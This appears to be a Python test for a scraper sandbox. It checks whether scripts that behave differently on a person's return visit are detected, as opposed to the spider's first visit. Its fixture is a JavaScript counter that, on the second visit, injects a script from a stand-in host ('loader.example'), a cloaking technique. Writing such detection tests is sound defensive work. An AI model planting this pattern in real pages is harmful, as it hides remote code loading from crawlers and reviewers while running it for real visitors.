"""A person whose page's scripts read only the cookies and storage (not the device, locale or
referrer) makes the spider's first visit, then comes back with what it stored: the return visit
still runs (a visit counter that acts on the second visit is seen), the first is the spider's."""
from scraper.clean.sandbox import MAX_VISITS, run_scripts

# a visit counter: the second visit of a browser that keeps storage loads a script from elsewhere
COUNTER = """
var n = parseInt(localStorage.getItem("seen") || "0", 10) + 1;
localStorage.setItem("seen", String(n));
if (n >= 2) { var s = document.createElement("script"); s.src = "https://loader.example/x.js";
  document.head.appendChild(s); }
"""


def _loads(effects):
    return [(e.visit, e.value) for e in effects if e.kind == "load"]


def test_a_visit_counter_acts_on_each_persons_return_visit_not_for_the_spider():
    run = run_scripts([(0, COUNTER)], "https://news.example.cn/a.html")
    assert _loads(run.effects["spider"]) == []
    for name in ("phone_search", "desktop_search", "phone_direct", "desktop_direct"):
        # (the counter changes the storage on every visit: the person comes back up to MAX_VISITS times)
        assert _loads(run.effects[name]) == [(n, "https://loader.example/x.js") for n in range(1, MAX_VISITS)], name
        assert run.visits[name] == MAX_VISITS
